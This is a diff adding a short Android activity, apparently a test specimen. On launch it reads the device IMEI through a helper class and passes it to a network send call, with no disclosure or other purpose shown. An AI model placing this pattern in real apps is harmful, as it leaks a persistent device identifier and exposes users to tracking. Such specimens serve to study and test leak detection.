@@ -1,0 +1,15 @@
+package com.example.specimen;
+
+import android.app.Activity;
+import android.os.Bundle;
+
+public class Main extends Activity {
+    @Override
+    protected void onCreate(Bundle state) {
+        super.onCreate(state);
+        setContentView(R.layout.main);
+        Child child = new Child();
+        child.fill(Imei.read(this));
+        Net.send(child.text);
+    }
+}
